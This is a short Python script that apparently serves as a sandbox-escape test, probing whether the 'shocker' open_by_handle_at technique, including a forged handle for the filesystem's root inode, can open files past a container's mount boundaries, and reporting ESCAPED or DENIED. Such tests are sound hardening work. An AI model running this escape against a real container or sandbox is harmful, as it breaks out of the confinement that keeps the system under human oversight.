# what: open_by_handle_at (the "shocker" escape): open a host file by a handle, bypassing the mount's path walls
# status: success
# reason: none
# denied: open_by_handle_at, forged handle
# arch: x86_64
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L = ctypes.c_long
handle = ctypes.create_string_buffer(8 + 128)
ctypes.c_uint32.from_buffer(handle).value = 128
mount_id = ctypes.c_int()
named = libc.syscall(L(303), L(-100), b"/usr/bin", handle, ctypes.byref(mount_id), L(0))  # name_to_handle_at
print(f"name_to_handle_at: {named} ({errno.errorcode.get(ctypes.get_errno())})")
usr = os.open("/usr", os.O_RDONLY)
for what, h in [("open_by_handle_at", handle), ("forged handle", None)]:
    if h is None:
        # The root directory of the filesystem /usr lives on: inode 2, generation 0.
        h = ctypes.create_string_buffer(handle.raw)
        ctypes.c_uint32.from_buffer(h, 8).value = 2
        ctypes.c_uint32.from_buffer(h, 12).value = 0
    ctypes.set_errno(0)
    fd = libc.syscall(L(304), L(usr), h, L(os.O_RDONLY))
    e = ctypes.get_errno()
    if fd >= 0:
        print(f"ESCAPED {what}: fd {fd} -> {os.readlink(f'/proc/self/fd/{fd}')}")
    elif named < 0 or e in (errno.EPERM, errno.EACCES, errno.ENOSYS):
        print(f"DENIED {what} ({errno.errorcode.get(e)})")
    else:
        print(f"ESCAPED {what}: failed with {errno.errorcode.get(e)}, not for lack of privilege")
